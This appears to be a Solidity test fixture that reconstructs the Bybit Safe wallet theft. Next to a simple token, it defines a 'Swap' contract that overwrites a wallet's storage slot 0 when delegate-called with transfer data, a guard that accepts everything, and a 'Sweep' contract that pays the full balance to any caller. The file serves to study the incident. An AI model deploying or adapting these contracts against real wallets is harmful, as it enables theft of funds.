// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

/// A token with its two mappings in slots 0 and 1 and nothing else.
contract Token {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    constructor(address[] memory holders, uint256 each) {
        for (uint256 i = 0; i < holders.length; ++i) balanceOf[holders[i]] = each;
    }
    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (from != msg.sender) allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }
}

/// What was signed at Bybit: called by DELEGATECALL with the data of a transfer, it writes slot 0.
contract Swap {
    address first;
    function transfer(address to, uint256) external { first = to; }
}

/// Accepts as guard whatever the Safe asks it.
contract Guard {
    function supportsInterface(bytes4) external pure returns (bool) { return true; }
    fallback() external {}
}

/// What the swapped slot points to: code by which whoever calls takes the native coin.
contract Sweep {
    fallback() external { payable(msg.sender).transfer(address(this).balance); }
}
